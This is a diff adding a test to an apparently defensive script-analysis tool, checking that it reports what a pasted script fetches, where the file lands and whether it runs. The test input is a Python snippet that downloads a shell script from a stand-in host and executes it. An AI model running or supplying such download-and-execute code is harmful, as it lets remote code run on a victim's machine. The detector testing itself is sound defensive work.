@@ -271,6 +271,26 @@ test('the report is saved as one HTML file that runs nothing and keeps hostile t
     assert.equal(await file.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
   }));
 
+test('what a script would fetch is shown with where it lands, and whether it is run', () =>
+  inPage({}, async (page) => {
+    await paste(
+      page,
+      `import os, urllib.request
+urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
+os.system("sh /tmp/a.sh")
+`,
+    );
+    await page.locator('#tab-indicators').click();
+    const row = page.locator('pv-fetches-view tbody tr').first();
+    const text = await row.innerText();
+    assert.match(text, /files\[\.\]example\[\.\]invalid\/a\.sh/);
+    assert.match(text, /urlretrieve/);
+    assert.match(text, /file \/tmp\/a\.sh/);
+    assert.match(text, /run/);
+    await row.locator('button.link').click();
+    await page.locator('.cm-line:has(.pv-target)').first().waitFor();
+  }));
+
 test('indicators are saved as CSV, and what is printed is the whole report', () =>
   inPage({}, async (page) => {
     await paste(page, example('reverse-shell.json'));
